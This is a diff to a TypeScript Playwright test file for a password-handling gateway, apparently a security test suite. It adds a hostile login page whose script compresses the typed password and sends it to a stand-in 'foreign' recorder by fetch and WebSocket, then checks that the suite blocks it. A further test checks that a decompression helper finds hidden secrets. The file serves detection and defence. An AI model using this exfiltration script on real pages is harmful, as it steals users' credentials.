@@ -1,8 +1,11 @@
+import { randomBytes } from 'node:crypto';
 import { createSocket } from 'node:dgram';
 import { get } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import type { Browser } from '@playwright/test';
 import { Gateway } from '../../../src/keypage/gateway/gateway.js';
+import { unpacked } from '../../../src/keypage/gateway/packed.js';
 import { Secrets } from '../../../src/keypage/gateway/secrets.js';
 import { limitsOf } from '../../../src/keypage/input.js';
 import { startBrowser } from '../../../src/keypage/window/browser.js';
@@ -68,6 +71,53 @@ const stealing = (recorders: Recorders): string =>
    ${Object.values(channels(recorders))
      .map((script) => `try { ${script} } catch {}`)
      .join('\n')} });</script>`;
+
+/** Channels that compress what they send, as programs that record sessions do. */
+const packing = ({ foreign }: Recorders): string =>
+  `${loginForm()}<script>const field = document.querySelector('[type=password]');
+   const packed = (format) => new Response(new Blob(['{"said":', JSON.stringify(field.value), '}']).stream().pipeThrough(new CompressionStream(format))).arrayBuffer();
+   const send = (name, body) => fetch('${foreign}/?c=' + name, { method: 'POST', mode: 'no-cors', keepalive: true, body });
+   field.addEventListener('input', () => {
+     if (field.value === '') return;
+     for (const format of ['gzip', 'deflate', 'deflate-raw']) packed(format).then((body) => send(format, body));
+     const socket = new WebSocket('${foreign.replace('https', 'wss')}/?c=socket');
+     socket.onopen = async () => socket.send(await packed('gzip'));
+   });</script>`;
+
+test('a password leaves compressed neither', inCi, async ({ chromium }) => {
+  const recorders = await startRecorders();
+  const page = await startHostilePage({ login: packing(recorders) });
+  try {
+    const judged = await judgeAt(page, chromium);
+    expect(recorders.channelsOf(password)).toEqual([]);
+    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
+    expect(judged.everything).toContain('in the body of a request; the suite stopped it.');
+  } finally {
+    await Promise.all([page.close(), recorders.close()]);
+  }
+});
+
+test('what is compressed is searched as far as can be', () => {
+  const secret = 'the password';
+  const form = (packed: Buffer): Buffer =>
+    Buffer.concat([Buffer.from('--x\r\n\r\n'), packed, Buffer.from('\r\n--x--')]);
+  const header = Buffer.from('\x1f\x8b\x08\x1e\0\0\0\0\0\0\x02\0abname\0note\0cr', 'latin1');
+  const bodies: Record<string, Buffer> = {
+    gzip: gzipSync(secret),
+    'gzip with names in its header': form(Buffer.concat([header, deflateRawSync(secret)])),
+    zlib: deflateSync(secret),
+    'zlib in a form': form(deflateSync(secret)),
+    'raw deflate': deflateRawSync(secret),
+    brotli: brotliCompressSync(secret),
+    'the second of two': Buffer.concat([gzipSync('other'), gzipSync(secret)]),
+    'a gzip that was cut': gzipSync(`${secret}${randomBytes(9_000).toString('hex')}`).subarray(0, 2_000),
+  };
+  for (const [name, body] of Object.entries(bodies))
+    expect(Buffer.concat(unpacked(body) ?? []).toString(), name).toContain(secret);
+  expect(unpacked(Buffer.from(`{"x": "${secret}"}`))).toEqual([]);
+  expect(unpacked(gzipSync(Buffer.alloc(10_000_000)))).toBeUndefined();
+  expect(unpacked(Buffer.alloc(100_000, Buffer.from([0x78, 0x9c, 0xff])))).toBeUndefined();
+});
 
 /** A page that tries all of them, with a server that helps. */
 const start = (recorders: Recorders) =>
